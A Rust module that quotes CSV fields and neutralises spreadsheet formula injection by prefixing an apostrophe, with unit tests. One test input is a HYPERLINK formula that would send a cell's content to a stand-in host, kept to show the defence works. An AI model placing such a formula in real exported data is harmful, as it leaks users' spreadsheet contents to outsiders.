//! Fields of comma-separated values: RFC 4180, with lines that end in `\n` as everything else on this system.

use std::borrow::Cow;

/// The text as one field, in quotes only if it needs them. Every character is kept: for programs.
pub(crate) fn field(text: &str) -> Cow<'_, str> {
    match text.contains([',', '"', '\n', '\r']) {
        true => format!("\"{}\"", text.replace('"', "\"\"")).into(),
        false => text.into(),
    }
}

/// The text as one field that a spreadsheet shows and does not compute: for people.
///
/// A spreadsheet runs a cell that begins like a formula, and formulas can send the sheet's content elsewhere. An
/// apostrophe before it makes it text. Which beginnings count: <https://owasp.org/www-community/attacks/CSV_Injection>.
pub(crate) fn cell(text: &str) -> Cow<'_, str> {
    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    match is_formula && text.parse::<f64>().is_err() {
        true => field(&format!("'{text}")).into_owned().into(),
        false => field(text),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn only_what_would_break_a_line_is_quoted() {
        for (text, field) in
            [("", ""), ("a b", "a b"), ("a,b", "\"a,b\""), ("\"a\"", "\"\"\"a\"\"\""), ("a\nb", "\"a\nb\"")]
        {
            assert_eq!(super::field(text), field);
        }
    }

    #[test]
    fn formulas_become_text_and_numbers_stay() {
        for (text, cell) in [
            ("=1+1", "'=1+1"),
            ("+49 30 1234", "'+49 30 1234"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "\"'\r=1+1\""),
            ("＝1+1", "'＝1+1"),
            ("=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://a.example/?\"\"&A1,\"\"x\"\")\""),
            ("-3.5", "-3.5"),
            ("+1e-5", "+1e-5"),
            ("fixed(0.25)", "fixed(0.25)"),
            ("a=b", "a=b"),
            ("–", "–"),
        ] {
            assert_eq!(super::cell(text), cell);
        }
    }
}
